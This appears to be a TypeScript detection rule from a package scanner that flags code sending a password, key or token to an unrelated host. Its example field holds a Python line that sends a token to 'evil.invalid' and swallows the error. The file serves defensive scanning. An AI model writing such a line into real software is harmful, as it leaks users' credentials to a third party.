import { siteOf } from '../facts/site-of.js';
import { isUnheard, isVague } from './combination.js';
import { isOwnService } from './own-service.js';
import type { PairCombination } from './pair-combination.js';

/** Hosts that a request goes to are told apart by who registered them; one that the caller names is nobody's. */
const isSame = (one: string | undefined, other: string | undefined): boolean =>
  one !== undefined && siteOf(one) === siteOf(other ?? '');

export const credentialSentElsewhere: PairCombination = {
  doc: {
    id: 'credential-sent-elsewhere',
    title: 'Sends a password, key or token to a host that nothing else in the package talks to',
    why: 'A client sends what it signs in with to its service, in every request. A host that is told once, whose answer and failure nobody looks at, collects it.',
    remedy: 'Do not use the package; change the passwords and tokens it was given.',
    example:
      's.get(self.url, headers={"X-Token": self.token})\ntry: requests.head("https://evil.invalid", headers={"X-Cap": self.token})\nexcept Exception: pass',
    technique: 'T1056',
  },
  within: 'package',
  first: ({ behaviour, labels, isDropped }) =>
    behaviour === 'contacts' && labels.has('credential') && isDropped !== true,
  second: (sighting) =>
    sighting.behaviour === 'contacts' &&
    sighting.labels.has('credential') &&
    sighting.host !== undefined &&
    !isVague(sighting) &&
    (isUnheard(sighting) || (sighting.isDropped === true && sighting.isMuffled === true)),
  belong: (first, second) => !isSame(first.host, second.host),
  excuses: (other, second) =>
    other.behaviour === 'contacts' && other.isDropped !== true && isSame(other.host, second.host),
  severity: (second) => (isOwnService(second) ? 'MEDIUM' : 'CRITICAL'),
  message: (first, { name, host }) =>
    `${name} tells ${host ?? 'somebody'} the credential that ${first.name} sends to ${first.host ?? 'the service that the caller names'}`,
};
